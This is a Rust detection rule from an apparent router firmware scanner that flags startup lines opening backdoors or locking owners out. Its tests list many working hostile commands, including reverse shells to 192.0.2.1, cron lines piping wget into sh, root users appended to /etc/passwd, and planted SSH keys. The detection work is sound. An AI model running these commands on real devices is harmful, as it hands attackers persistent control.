//! A startup line that opens the router to a stranger, or closes it to its owner.
//!
//! # Sees
//! A shell joined to the network (`nc -e`, `/dev/tcp`, a pipe through nc or `openssl s_client`, socat, perl and
//! python), telnetd without a login (`notice` on its usual port, unless the file is new or changed); rules that drop
//! management ports for everybody, accept an odd port or a public network, remove all rules, or send traffic on to a
//! public address; keys, users, preloaded libraries, jobs and startup files that a startup file writes; fixed
//! resolvers and names; records of logins that are emptied; other login services and the watchdog that are ended;
//! programs to reboot that are removed; a mount over a program or a process.
//!
//! # Why it matters
//! What stays on a router wants to be the only one there and to be let in again: Mozi and Hajime close the ports they
//! came through, VPNFilter and TheMoon open their own, TrickBot needs one rule, dhpcd and Skidmap one key.
//!
//! # Misses and false alarms
//! `infected` only for what no healthy router does; `notice` for what owners do too. Silent for rules of an interface,
//! a network, a rate or a destination, for ports of VPNs, for targets on the local network, resolvers that everybody
//! uses, jobs and startup lines that run something in a system place, and firewall scripts that begin by removing all
//! rules. An owner's own rule that closes telnet for everybody, or a key that a provisioning script writes, is
//! `suspicious`: it cannot be told from a stranger's. Of files for iptables-restore and `nft -f` those in the usual places
//! are read. Values that are computed, a job that `crontab FILE` takes over, and shells of programs with other names are
//! missed.
//!
//! # Sources
//! iptables-extensions(8); nft(8); nc(1); socat(1); bash(1) REDIRECTION; BusyBox networking/{nc,telnetd}.c; hosts(5);
//! resolv.conf(5); ld.so(8); MITRE ATT&CK T1059.004, and T1562.004, T1090, T1098.004 for what it does.

use crate::check::{Advice, Area, Check, Ctx, Hook, Out, Severity, Source};
use crate::facts::deed::{Deed, deed};
use crate::facts::origin::{Standing, Truth};
use crate::facts::startup::{Kind, Line};
use crate::facts::text::has;

/// The row of the table.
pub const CHECK: Check = Check {
    id: "startup-backdoor",
    area: Area::Startup,
    severity: Severity::Suspicious,
    attack: "T1059.004",
    title: "a startup line that lets a stranger in or keeps the owner out",
    advice: Advice::PLANTED,
    sources: &[Source::Startup],
    hooks: &[Hook::Line(run)],
};

/// What each thing weighs, in words, and in files of which names nobody is surprised.
const WEIGHTS: [(Deed, Severity, &str, &[&[u8]]); 32] = [
    (Deed::GivesShell, Severity::Infected, "joins a shell to the network", &[]),
    (Deed::OpensConnection, Severity::Suspicious, "opens a connection to take orders from", &[]),
    (Deed::GivesProgram, Severity::Notice, "lets the network run a program", &[]),
    (Deed::SkipsLogin, Severity::Suspicious, "a login on an odd port without a password", &[]),
    (
        Deed::SkipsLoginPlainly,
        Severity::Notice,
        "a login over the network without a password",
        &[b"/preinit"],
    ),
    (Deed::ClosesAttacked, Severity::Suspicious, "closes a port that bots come in through", &[]),
    (Deed::ClosesOwners, Severity::Suspicious, "closes a management port for everybody", &[]),
    (Deed::ClosesOwnersLast, Severity::Notice, "closes a management port", &[]),
    (Deed::OpensPort, Severity::Notice, "opens an odd port to everybody", &[]),
    (Deed::OpensToNetwork, Severity::Notice, "lets a public network in", &[]),
    (
        Deed::OpensAll,
        Severity::Suspicious,
        "removes all rules of the packet filter and lets everybody in",
        FIREWALLS,
    ),
    (Deed::Flushes, Severity::Notice, "removes all rules of the packet filter", FIREWALLS),
    (Deed::Redirects, Severity::Suspicious, "sends traffic on to a public address", &[]),
    (Deed::Relays, Severity::Infected, "relays a port of servers that command bots", &[]),
    (Deed::RedirectsNames, Severity::Suspicious, "sends look-ups of names to a stranger", &[]),
    (Deed::WritesKey, Severity::Suspicious, "writes a key that opens the machine", &[]),
    (Deed::CopiesKeys, Severity::Notice, "copies keys that open the machine", &[]),
    (Deed::AddsUser, Severity::Suspicious, "adds a user", &[]),
    (Deed::WritesUsers, Severity::Notice, "writes the list of users anew", &[]),
    (Deed::Preloads, Severity::Suspicious, "has every program load a library", &[]),
    (Deed::StartsOdd, Severity::Suspicious, "has something odd started later", &[]),
    (Deed::Spreads, Severity::Suspicious, "puts an odd file among the startup files", &[]),
    (Deed::Starts, Severity::Notice, "writes a startup file", &[]),
    (Deed::SetsResolver, Severity::Notice, "sets a resolver of names that is not widely known", &[]),
    (Deed::SetsHost, Severity::Notice, "says itself what a public name means", &[]),
    (Deed::WipesLog, Severity::Notice, "wipes logs", &[]),
    (Deed::KillsRivals, Severity::Suspicious, "ends login services", LOGINS),
    (Deed::KillsLogin, Severity::Notice, "ends a login service", LOGINS),
    (Deed::StopsWatchdog, Severity::Notice, "stops the watchdog", &[b"watchdog", b"rcK", b"shutdown"]),
    (Deed::RemovesReboot, Severity::Suspicious, "removes programs to reboot", &[]),
    (Deed::CoversProgram, Severity::Suspicious, "mounts an odd file over a program", &[]),
    (Deed::HidesProcess, Severity::Infected, "mounts over a process", &[]),
];

const FIREWALLS: &[&[u8]] =
    &[b"firewall", b"iptables", b"nftables", b"netfilter", b"shorewall", b"ufw", b"/fw"];
const LOGINS: &[&[u8]] = &[b"telnet", b"dropbear", b"ssh", b"rcK", b"shutdown", b"upgrade"];

fn run(line: &Line<'_>, _: &Ctx<'_>, out: &mut Out<'_>) {
    let weighed = line.commands.iter().filter_map(|(index, _)| {
        let deed = deed(line.commands, index, line.text)?;
        let row = WEIGHTS.iter().find(|(known, ..)| *known == deed)?;
        let (.., expected) = row;
        (!expected.iter().any(|part| has(line.file, part))).then_some(row)
    });
    // One line is one finding: the gravest.
    let Some((deed, severity, words, _)) = weighed.max_by_key(|(_, severity, ..)| *severity) else { return };
    let severity = match (severity, line.standing) {
        // What a healthy image does of its own, each device of that model does: at most a weak spot.
        (Severity::Notice, Standing::Known(Truth::Image)) => return,
        (Severity::Suspicious, Standing::Known(Truth::Image)) => &Severity::Notice,
        // What vendors do, a stranger did where a file is not the vendor's.
        _ if *deed == Deed::SkipsLoginPlainly && line.standing.is_odd() => &Severity::Suspicious,
        _ => severity,
    };
    let draft = out.line(line).severity(*severity).say(words);
    if line.kind != Kind::Text {
        out.found(draft.say(": ").quote(line.text));
    } else if *severity == Severity::Infected {
        let draft = draft.severity(Severity::Suspicious).say(", in quotes or a text that is printed: ");
        out.found(draft.quote(line.text));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::check::testing::startup;

    fn said(text: &[u8]) -> Vec<Severity> {
        startup(&CHECK, Kind::Shell, text).into_iter().map(|(_, severity)| severity).collect()
    }

    #[test]
    fn shells_for_strangers() {
        for text in [
            &b"nc -e /bin/sh 192.0.2.1 4444"[..],
            b"busybox nc -ll -p 4444 -e /bin/sh -i &",
            b"nc 192.0.2.1 4444 -e sh",
            b"ncat --exec /bin/bash 192.0.2.1 443",
            b"ncat -c 'bash -i' 192.0.2.1 443",
            b"sh -i >& /dev/tcp/192.0.2.1/443 0>&1",
            b"bash -c 'bash -i &> /dev/tcp/192.0.2.1/443 <&1'",
            b"mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 443 > /tmp/f",
            b"nc 192.0.2.1 443 < /tmp/f | sh > /tmp/f 2>&1",
            b"sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:443 > /tmp/s",
            b"telnet 192.0.2.1 1 | sh | telnet 192.0.2.1 2",
            b"socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh,pty,stderr",
            b"socat exec:'bash -li',pty tcp:192.0.2.1:443",
            b"python3 -c 'import socket,pty;s=socket.socket();s.connect((\"192.0.2.1\",1));pty.spawn(\"/bin/sh\")'",
            b"perl -e 'use Socket;connect(S,sockaddr_in(1,inet_aton(\"192.0.2.1\")));exec(\"/bin/sh -i\")'",
            b"P=4444; N=nc; $N -l -p $P -e /bin/sh",
            b"mount --bind /tmp/empty /proc/$pid",
            b"mount -t tmpfs tmpfs /proc/812",
            b"iptables -t nat -A PREROUTING -p tcp --dport 449 -j DNAT --to-destination 192.0.2.1:80",
            b"nft add rule ip nat prerouting tcp dport 449 dnat to 192.0.2.1:80",
        ] {
            assert_eq!(said(text), [Severity::Infected], "{}", String::from_utf8_lossy(text));
        }
        let inittab = b"::respawn:/usr/bin/nc -ll -p 4444 -e /bin/sh";
        assert_eq!(startup(&CHECK, Kind::Inittab, inittab), [(1, Severity::Infected)]);
        let cron = b"\n*/5 * * * * /usr/bin/nc 192.0.2.1 4444 -e /bin/sh";
        assert_eq!(startup(&CHECK, Kind::Cron, cron), [(2, Severity::Infected)]);
        let quoted = b"x='\nsh -i 2>&1 | nc 192.0.2.1 4444\n'\n";
        assert_eq!(startup(&CHECK, Kind::Shell, quoted), [(2, Severity::Suspicious)]);
    }

    #[test]
    fn what_a_person_should_look_at() {
        for text in [
            &b"exec 5<>/dev/tcp/192.0.2.1/443"[..],
            b"echo '|/tmp/x %p' > /proc/sys/kernel/core_pattern",
            b"echo /tmp/x > /proc/sys/kernel/modprobe",
            b"exec 5<>/dev/tcp/c2.example.net/443; cat <&5 | while read l; do $l 2>&5 >&5; done",
            b"echo 'x:$1$a$b:1001:0::/:/bin/sh' >> /etc/passwd",
            b"echo 'x::1001:100::/:/bin/sh' >> /etc/passwd",
            b"telnetd -l /bin/sh -p 2323",
            b"procd_set_param command /usr/sbin/telnetd -F -l /bin/sh -p 5555",
            b"iptables -F; iptables -P INPUT ACCEPT",
            b"iptables -A INPUT -p tcp --dport 23 -j DROP",
            b"nvram set sshd_authkeys='ssh-rsa AAAA'; nvram commit",
            b"start-stop-daemon -S -b -x /usr/sbin/telnetd -- -p 2222 -F -l /bin/ash",
            b"iptables -I INPUT -p tcp --dport 23 -j DROP",
            b"iptables -A INPUT -p tcp --destination-port 7547 -j DROP",
            b"iptables -I INPUT -p tcp -m multiport --dport 80,8080 -j DROP",
            b"for p in 23 80; do iptables -I INPUT -p tcp --dport $p -j REJECT; done",
            b"nft insert rule inet fw4 input tcp dport 23 drop",
            b"iptables -t nat -A PREROUTING -p tcp --dport 443 -j DNAT --to-destination 192.0.2.1:8080",
            b"iptables -t nat -I PREROUTING -p udp --dport 53 -j DNAT --to 192.0.2.1",
            b"echo ssh-rsa AAAA x >> /root/.ssh/authorized_keys",
            b"K=/etc/dropbear/authorized_keys; echo 'ssh-ed25519 AAAA' | tee -a $K",
            b"cat >> /etc/dropbear/authorized_keys <<E",
            b"wget -O /root/.ssh/authorized_keys http://192.0.2.1/k",
            b"echo 'x::0:0::/:/bin/sh' >> /etc/passwd",
            b"echo 'x:$1$a$b:18000:0:99999:7:::' >> /etc/shadow",
            b"echo /lib/x.so > /etc/ld.so.preload",
            b"(crontab -l; echo '* * * * * /tmp/x') | crontab -",
            b"echo '*/5 * * * * wget -qO- http://192.0.2.1/x|sh' >> /etc/crontabs/root",
            b"cru a x '*/3 * * * * /tmp/x'",
            b"echo '/tmp/x &' >> /etc/rc.local",
            b"sed -i '/exit 0/i /tmp/x &' /etc/rc.local",
            b"cp $0 /etc/init.d/S99x",
            b"ln -s /tmp/x /etc/rc.d/S99x",
            b"killall -9 telnetd utelnetd dropbear",
            b"while :; do killall telnetd; sleep 5; done",
            b"for d in telnetd sshd; do kill -9 $(pidof $d); done",
            b"rm -f /sbin/reboot /usr/sbin/shutdown",
            b"chmod 000 /sbin/reboot",
            b"mv /sbin/reboot /sbin/.r",
            b"uci set firewall.x=include; uci set firewall.x.path=/tmp/.x",
            b"uci set dhcp.@dnsmasq[0].dhcpscript='/dev/shm/x'",
            b"nvram set rc_startup='wget -qO- http://192.0.2.1/x | sh'; nvram commit",
            b"nvram set script_fire=/tmp/.x",
            b"dd if=/tmp/x of=/etc/init.d/S99x",
            b"install -m 755 /tmp/x /etc/init.d/x",
            b"mount -o bind,ro /tmp/.x /usr/sbin/dropbear",
            b"mount -o bind /tmp/.x /usr/sbin/dropbear",
            b"mount --bind /dev/shm/ps /bin/ps",
            b"for p in 22 23 80; do iptables -A INPUT -p tcp --dport $p -j DROP; done",
            b"sed -i '$a x::0:0::/:/bin/sh' /etc/passwd",
            b"sed -i 's#^exit 0#/tmp/.x; exit 0#' /etc/rc.local",
            b"useradd -o -u 0 x",
            b"adduser -D -u 0 x",
            b"sysctl -w kernel.modprobe=/tmp/x",
            b"sysctl -w kernel.core_pattern='|/tmp/x'",
            b"tcp dport 443 counter dnat ip to 192.0.2.1:8080",
        ] {
            assert_eq!(said(text), [Severity::Suspicious], "{}", String::from_utf8_lossy(text));
        }
    }

    #[test]
    fn what_owners_do_too() {
        for text in [
            &b"telnetd -b 192.168.1.1 -p 2323 -l /bin/sh"[..],
            b"telnetd -l /bin/sh &",
            b"nc -ll -p 8000 -e /usr/bin/status",
            b"iptables -A INPUT -p tcp --dport 22 -j DROP",
            b"iptables -I INPUT -p udp --dport 9999 -j DROP",
            b"iptables -F; iptables -X",
            b"iptables -I INPUT -p tcp --dport 8888 -j ACCEPT",
            b"iptables -I INPUT -s 192.0.2.0/24 -j ACCEPT",
            b"cp /jffs/authorized_keys /root/.ssh/authorized_keys",
            b"echo nameserver 192.0.2.53 > /etc/resolv.conf",
            b"uci set dhcp.lan.dhcp_option='6,192.0.2.53'",
            b"nvram set wan_dns='192.0.2.53 192.0.2.54'",
            b"echo '127.0.0.1 update.example.com' >> /etc/hosts",
            b"> /var/log/wtmp",
            b"rm -rf /var/log/*",
            b"killall telnetd",
            b"echo V > /dev/watchdog",
            b"echo /usr/bin/x >> /etc/rc.local",
            b"echo root:x | chpasswd",
            b"echo \"$line\" >> /etc/passwd",
            b"(echo x; echo x) | passwd root",
            b"set network.wan.dns=192.0.2.53",
        ] {
            assert_eq!(said(text), [Severity::Notice], "{}", String::from_utf8_lossy(text));
        }
    }

    #[test]
    fn what_is_plain() {
        for text in [
            &b"nc -z 192.168.1.1 80; nc -w 1 host 2003 < /tmp/x; uptime | nc host 2003"[..],
            b"sh -c 'cat /proc/loadavg' | nc host 2003",
            b"timeout 1 bash -c 'cat < /dev/null > /dev/tcp/192.168.1.1/22'",
            b"socat TCP-LISTEN:80,fork TCP:192.168.1.2:80",
            b"socat TCP-LISTEN:80,fork EXEC:/usr/bin/handler.sh",
            b"telnetd -l /bin/login.sh; telnetd -p 23; /usr/sbin/telnetd -l /bin/login",
            b"iptables -I INPUT -i br-guest -p tcp --dport 22 -j REJECT",
            b"iptables -I INPUT -p tcp --dport 22 -m recent --update --seconds 60 --hitcount 4 -j DROP",
            b"iptables -I INPUT -s 192.0.2.1 -j DROP",
            b"iptables -I INPUT -p udp --dport 1194 -j ACCEPT; iptables -A INPUT -i tun0 -j ACCEPT",
            b"iptables -A INPUT -s 192.168.0.0/16 -j ACCEPT; iptables -A INPUT -p tcp --dport 443 -j ACCEPT",
            b"iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to-destination 192.168.1.2",
            b"iptables -t nat -A PREROUTING -i br0 -p udp --dport 53 -j DNAT --to 9.9.9.9",
            b"iptables -t nat -F; iptables -F FORWARD; iptables -N x; iptables -X x",
            b"iptables -I FORWARD -p tcp --dport 23 -j DROP",
            b"iptables -A INPUT -p tcp --dport $PORT -j DROP",
            b"nft -f /etc/nftables.conf; nft add element inet fw4 x { 192.0.2.1 }",
            b"echo nameserver 127.0.0.1 > /etc/resolv.conf; echo \"nameserver $DNS1\" >> /tmp/resolv.conf",
            b"echo nameserver 1.1.1.1 > /etc/resolv.conf",
            b"uci set dhcp.@dnsmasq[0].server='127.0.0.1#5453'; uci add_list network.wan.dns=8.8.8.8",
            b"echo 127.0.0.1 localhost $HOSTNAME > /etc/hosts; echo 192.168.1.2 nas.lan >> /etc/hosts",
            b"wget -O /etc/hosts http://192.0.2.1/hosts",
            b"echo '0 4 * * * /etc/init.d/adblock reload' >> /etc/crontabs/root; sed -i '/x/d' /etc/crontabs/root",
            b"cp /usr/share/x/init /etc/init.d/x; ln -sf ../init.d/x /etc/rc.d/S99x",
            b"killall -HUP dropbear; killall udhcpc; kill -9 $(pidof dnsmasq)",
            b"rm -f /var/log/x.log; rm -rf /tmp/x; > /var/run/utmp",
            b"echo 1 > /dev/watchdog; mount -t proc proc /proc; mount --bind /x /proc/sys/y",
            b"sed -i 's|/tmp/a|/usr/b|' /etc/init.d/x; sed -i '/exit 0/i /usr/bin/x &' /etc/rc.local",
            b"grep -q ^svc: /etc/passwd || echo 'svc:x:200:200::/var:/bin/false' >> /etc/passwd",
            b"echo 'svc:*:16000:0:99999:7:::' >> /etc/shadow",
            b"[ -f /root/.ssh/authorized_keys ] && chmod 600 /root/.ssh/authorized_keys",
            b"rm -f /usr/lib/opkg/info/reboot; echo reboot >> /tmp/x",
            b"echo /tmp/core.%p > /proc/sys/kernel/core_pattern; echo /sbin/mdev > /proc/sys/kernel/hotplug",
            b"exec 3<>/dev/tcp/127.0.0.1/80; timeout 1 bash -c \"exec 4<>/dev/tcp/$h/$p\"",
            b"grep -q ^x: /etc/passwd || echo 'x:*:200:200:x:/var/run/x:/bin/false' >> /etc/passwd",
            b"echo \"x:x:${n}:${n}:x:/opt/x:/bin/false\" >> /etc/passwd",
            b"mount --bind /usr/lib/x/procd /sbin/procd; mount -o bind /tmp/hosts /etc/hosts",
            b"uci set firewall.x.path=/var/etc/x.include; uci set firewall.y.path=/etc/y; uci set samba.x.path=/tmp/share",
            b"nvram set rc_startup='sleep 5; /jffs/start.sh'; nvram set script_usbmount=/mnt/sda1/x.sh",
            b"dd if=/dev/zero of=/tmp/x; dd if=/etc/x of=/etc/init.d/y; install -m 755 /usr/share/x /etc/init.d/x",
            b"mv /tmp/reboot /sbin/reboot; mv /var/log/wtmp /var/log/wtmp.1",
            b"sed -i '$a x:*:200:200::/var:/bin/false' /etc/passwd; sed -i \"s|^root:[^:]*:|root:$hash:|\" /etc/shadow",
            b"useradd -r -u 200 x; adduser -S x; sysctl -w net.ipv4.ip_forward=1",
            b"sysctl -w kernel.core_pattern=/tmp/core; sysctl -w kernel.core_pattern='|/bin/false'",
            b"-A INPUT -i br-lan -p tcp --dport 23 -j DROP; tcp dport 80 dnat ip to 192.168.1.2; set -- $x",
            b"echo 'x:!:0:0:99999:7:::' >> /etc/shadow; echo 'x:x:25:25::/:/sbin/nologin' >> /etc/passwd",
        ] {
            assert_eq!(said(text), [], "{}", String::from_utf8_lossy(text));
        }
    }

    #[test]
    fn every_deed_has_a_weight_and_files_that_may() {
        let at = |file: &[u8], text: &[u8]| {
            let mut commands = crate::facts::commands::Commands::new();
            commands.parse(text);
            let deed = deed(&commands, 0, text).unwrap();
            WEIGHTS
                .iter()
                .filter(|(known, ..)| *known == deed)
                .any(|row| row.3.iter().any(|part| has(file, part)))
        };
        assert!(at(b"/etc/init.d/firewall", b"iptables -F") && !at(b"/etc/rc.local", b"iptables -F"));
        assert!(at(b"/etc/init.d/S50dropbear", b"killall dropbear"));
        assert!(at(b"/lib/preinit/99_failsafe", b"telnetd -l /bin/sh"));
    }
}
